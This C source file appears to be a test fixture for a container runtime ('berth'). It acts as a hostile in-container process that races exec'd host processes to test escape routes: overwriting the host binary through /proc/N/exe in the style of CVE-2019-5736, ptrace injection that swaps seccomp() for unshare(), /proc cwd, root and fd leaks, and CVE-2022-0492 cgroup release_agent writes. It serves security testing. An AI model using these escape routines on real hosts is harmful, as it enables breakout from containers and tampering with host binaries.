/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * A hostile process inside a container (a test fixture, linked statically and
 * bind-mounted into the container): it watches for the processes berth brings
 * into the container's pid namespace (exec children) and tries to reach the
 * host through them, as the attacks on runc did (CVE-2019-5736 and relatives).
 *
 *   attacker MODE SECONDS [ARG]
 *
 * MODE is one of
 *   exe     open /proc/N/exe; a file that is not ARG (the binary the host
 *           execs, e.g. /bin/busybox) is the host's binary: LEAK. With a
 *           second argument "write", the host binary is then re-opened for
 *           writing through /proc/self/fd (retried while its text is busy)
 *           and a marker appended (run it against a copy!).
 *   ptrace  PTRACE_SEIZE of N; on success (x86_64) the next seccomp() call
 *           is replaced with unshare(CLONE_NEWUSER): LEAK, and INJECT when
 *           unshare returned 0.
 *   cwd     /proc/N/cwd opened: a directory outside our root is a LEAK.
 *   root    /proc/N/root opened: anything but our own root is a LEAK.
 *   fd      /proc/N/fd/X opened: a regular file, a directory, or X >= 3 is a LEAK.
 *   cgroup  no watching: mount -t cgroup, unshare(CLONE_NEWUSER|NEWNS|NEWCGROUP)
 *           and writing a release_agent (CVE-2022-0492); each success is a LEAK.
 *
 * The next pids of the namespace are predicted (pids are handed out in
 * order) and spun on, so that even a window of microseconds is hit. The
 * report on stdout: "seen=S leaks=L" and one line per leak.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#if defined(__x86_64__)
#include <sys/user.h>
#endif

static int leaks, seen;
static char report[8192];
static size_t report_len;

static void leak(const char *fmt, int pid, const char *detail)
{
	leaks++;
	if (report_len < sizeof report - 200)
		report_len += (size_t)snprintf(report + report_len, sizeof report - report_len, fmt, pid, detail);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int highest_pid(void)
{
	int max = 0;
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		int p = atoi(e->d_name);
		if (p > max)
			max = p;
	}
	if (d)
		closedir(d);
	return max;
}

/* Is the directory fd outside our root? Walk up with ".." (bounded by our own
 * root): reaching our root means inside; a fixed point elsewhere means outside. */
static int outside_root(int fd)
{
	struct stat root, cur, up;
	if (stat("/", &root) < 0 || fstat(fd, &cur) < 0)
		return 0;
	int dfd = dup(fd);
	for (int i = 0; i < 256 && dfd >= 0; i++) {
		if (cur.st_dev == root.st_dev && cur.st_ino == root.st_ino) {
			close(dfd);
			return 0;
		}
		int nfd = openat(dfd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		close(dfd);
		dfd = nfd;
		if (dfd < 0 || fstat(dfd, &up) < 0)
			break;
		if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino) {
			close(dfd);
			return 1; /* a root that is not ours */
		}
		cur = up;
	}
	if (dfd >= 0)
		close(dfd);
	return 0;
}

/* The attacks on one pid. Returns 0 while the pid does not exist (yet or any
 * more), 1 once it was reached in some way (even if refused). */
static const char *mode, *arg;
static int write_fds[64], n_write_fds;
static dev_t exp_dev;
static ino_t exp_ino;

static int attack_exe(int pid)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return errno != ENOENT && errno != ESRCH;
	struct stat st;
	if (fstat(fd, &st) == 0 && !(st.st_dev == exp_dev && st.st_ino == exp_ino)) {
		char target[256] = "";
		ssize_t n = readlink(p, target, sizeof target - 1);
		target[n > 0 ? n : 0] = '\0';
		leak("LEAK exe pid %d: %s\n", pid, target);
		if (n_write_fds < 64) {
			write_fds[n_write_fds++] = fd;
			return 1;
		}
	}
	close(fd);
	return 1;
}

/* Re-open the host binaries we hold for writing once their text is no longer busy. */
static void try_writes(void)
{
	for (int i = 0; i < n_write_fds; i++) {
		if (write_fds[i] < 0)
			continue;
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", write_fds[i]);
		int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w < 0)
			continue; /* ETXTBSY while a berth process still runs it */
		if (write(w, "PWNED-BY-CONTAINER\n", 19) == 19)
			leak("LEAK exe-write pid %d: %s\n", 0, "host binary modified");
		close(w);
		close(write_fds[i]);
		write_fds[i] = -1;
	}
}

#if defined(__x86_64__)
/* Traced: step to the next seccomp() and turn it into unshare(CLONE_NEWUSER). */
static void inject(int pid)
{
	int st;
	for (int i = 0; i < 200; i++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st))
			return;
		struct user_regs_struct r;
		if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
			return;
		if (r.orig_rax == SYS_execve)
			break;
		if (r.orig_rax != SYS_seccomp)
			continue;
		r.orig_rax = SYS_unshare;
		r.rdi = CLONE_NEWUSER;
		if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 ||
		    waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
			return;
		if (r.rax == 0)
			leak("INJECT pid %d: %s\n", pid, "seccomp() replaced by unshare(CLONE_NEWUSER) = 0");
		break;
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}
#endif

static int same_as_expected(int pid)
{
	char p[64];
	struct stat st;
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	return stat(p, &st) == 0 && st.st_dev == exp_dev && st.st_ino == exp_ino;
}

static int attack_ptrace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return errno != ESRCH;
	/* stopped, it is what it is: once it runs the container's own program,
	 * tracing it is the container's business */
	int st;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0) {
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 1;
	}
	if (!WIFSTOPPED(st) || same_as_expected(pid)) {
		/* exited meanwhile, or already the container's program */
		if (WIFSTOPPED(st))
			ptrace(PTRACE_DETACH, pid, 0, 0);
		return 1;
	}
	leak("LEAK ptrace pid %d: %s\n", pid, "PTRACE_SEIZE of berth's process before its exec");
#if defined(__x86_64__)
	inject(pid);
#else
	ptrace(PTRACE_DETACH, pid, 0, 0);
#endif
	return 1;
}

static int attack_dirlink(int pid, const char *what)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/%s", pid, what);
	int fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return errno != ENOENT && errno != ESRCH;
	struct stat st, root;
	int bad;
	if (!strcmp(what, "root"))
		bad = fstat(fd, &st) == 0 && stat("/", &root) == 0 && (st.st_dev != root.st_dev || st.st_ino != root.st_ino);
	else
		bad = outside_root(fd);
	if (bad) {
		char target[256] = "";
		ssize_t n = readlink(p, target, sizeof target - 1);
		target[n > 0 ? n : 0] = '\0';
		leak(!strcmp(what, "root") ? "LEAK root pid %d: %s\n" : "LEAK cwd pid %d: %s\n", pid, target);
	}
	close(fd);
	return 1;
}

static int attack_fd(int pid)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d)
		return errno != ENOENT && errno != ESRCH;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char q[96];
		snprintf(q, sizeof q, "/proc/%d/fd/%s", pid, e->d_name);
		int fd = open(q, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		struct stat st;
		if (fstat(fd, &st) == 0 && (atoi(e->d_name) >= 3 || S_ISREG(st.st_mode) || S_ISDIR(st.st_mode))) {
			char target[256] = "";
			ssize_t n = readlink(q, target, sizeof target - 1);
			target[n > 0 ? n : 0] = '\0';
			leak("LEAK fd pid %d: %s\n", pid, target);
		}
		close(fd);
	}
	closedir(d);
	return 1;
}

static int attack(int pid)
{
	if (!strcmp(mode, "exe"))
		return attack_exe(pid);
	if (!strcmp(mode, "ptrace"))
		return attack_ptrace(pid);
	if (!strcmp(mode, "cwd") || !strcmp(mode, "root"))
		return attack_dirlink(pid, mode);
	return attack_fd(pid);
}

static int pid_gone(int pid)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d", pid);
	return access(p, F_OK) < 0;
}

static void cgroup_attacks(void)
{
	mkdir("/tmp/cg", 0755);
	if (mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") == 0)
		leak("LEAK cgroup pid %d: %s\n", 0, "mount -t cgroup succeeded");
	if (mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL) == 0)
		leak("LEAK cgroup pid %d: %s\n", 0, "mount -t cgroup2 succeeded");
	DIR *d = opendir("/sys/fs/cgroup");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char p[512];
		snprintf(p, sizeof p, "/sys/fs/cgroup/%s/release_agent", e->d_name);
		int fd = open(p, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (write(fd, "/x", 2) == 2)
				leak("LEAK cgroup pid %d: %s\n", 0, p);
			close(fd);
		}
		snprintf(p, sizeof p, "/sys/fs/cgroup/%s/berth-attack", e->d_name);
		if (mkdir(p, 0755) == 0) {
			leak("LEAK cgroup pid %d: mkdir %s\n", 0, p);
			rmdir(p);
		}
	}
	if (d)
		closedir(d);
	/* the CVE-2022-0492 route: a user namespace of one's own, then a cgroup mount */
	pid_t c = fork();
	if (c == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
			_exit(0);
		if (mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma") == 0 ||
		    mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") == 0)
			_exit(2);
		_exit(1);
	}
	int st = 0;
	waitpid(c, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		leak("LEAK cgroup pid %d: %s\n", c, "unshare(CLONE_NEWUSER) succeeded");
	if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
		leak("LEAK cgroup pid %d: %s\n", c, "cgroup mounted in a new user namespace");
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: attacker exe|ptrace|cwd|root|fd|cgroup SECONDS [ARG [write]]\n");
		return 2;
	}
	mode = argv[1];
	double end = now() + atof(argv[2]);
	arg = argc > 3 ? argv[3] : "/bin/busybox";
	int do_write = argc > 4 && !strcmp(argv[4], "write");
	struct stat st;
	if (stat(arg, &st) == 0) {
		exp_dev = st.st_dev;
		exp_ino = st.st_ino;
	}
	signal(SIGCHLD, SIG_DFL);
	if (!strcmp(mode, "cgroup")) {
		cgroup_attacks();
		printf("seen=%d leaks=%d\n%s", 1, leaks, report);
		return 0;
	}
	/* tell the host we are ready: it starts its exec loop on this line */
	printf("ready\n");
	fflush(stdout);
	int next = highest_pid() + 1;
	int reached = 0;
	unsigned long idle = 0;
	while (now() < end) {
		if (++idle % 4096 == 0) {
			/* lost track (a child came and went between two looks): catch up */
			int h = highest_pid();
			if (h > next && h != getpid()) {
				next = h;
				reached = 0;
			}
		}
		for (int k = 0; k < 2; k++) {
			int pid = next + k;
			if (pid == getpid())
				continue;
			if (attack(pid)) {
				if (k == 1) { /* pid `next` was skipped (or missed): move on */
					next = pid;
					reached = 0;
				}
				if (!reached)
					seen++;
				reached = 1;
				idle = 0;
			} else if (k == 0 && reached && pid_gone(pid)) {
				next++;
				reached = 0;
			}
		}
		if (do_write)
			try_writes();
	}
	if (do_write)
		for (int i = 0; i < 50 && n_write_fds; i++) {
			try_writes();
			usleep(20000);
		}
	printf("seen=%d leaks=%d\n%s", seen, leaks, report);
	return 0;
}
